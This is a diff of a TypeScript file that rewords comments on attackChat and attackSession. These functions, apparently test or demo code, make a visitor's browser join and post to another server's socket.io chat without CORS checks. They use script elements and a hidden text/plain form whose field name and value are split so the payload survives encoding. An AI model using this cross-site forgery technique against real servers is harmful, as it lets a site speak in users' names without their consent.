@@ -1,6 +1,6 @@
 /**
- * Runs inside the page, from its source text: takes part in the chat of another server as the visitor, without a
- * request that needs CORS. Script elements open a session and read it, forms post to it.
+ * Runs inside the page, from its source text. Takes part in the chat of another server as the visitor, without requests
+ * that need CORS: script elements open and read a session, forms post to it.
  *
  * @returns what the page could read
  */
@@ -45,7 +45,7 @@ export async function attackChat(server: string, text: string): Promise<string[]
   return read
 }
 
-/** Runs inside the page, from its source text: sends to a session whose id the page knows all that a page may send. */
+/** Runs inside the page, from its source text. Sends everything that a page can send to a session whose id it knows. */
 export async function attackSession(server: string, session: string, text: string): Promise<void> {
   const url = `${server}/socket.io/?EIO=4&transport=polling&sid=${session}`
   const body = `42["say",${JSON.stringify(text)}]`
@@ -58,7 +58,7 @@ export async function attackSession(server: string, session: string, text: strin
   frame.name = 'plain'
   Object.assign(form, { method: 'POST', action: url, target: 'plain', enctype: 'text/plain' })
   const input = document.createElement('input')
-  // Sent as `name=value`: the equals sign is made part of the text.
+  // A form sends `name=value`, so the equals sign is part of the text.
   Object.assign(input, { name: body.slice(0, -2), value: '"]' })
   form.append(input)
   document.body.append(frame, form)
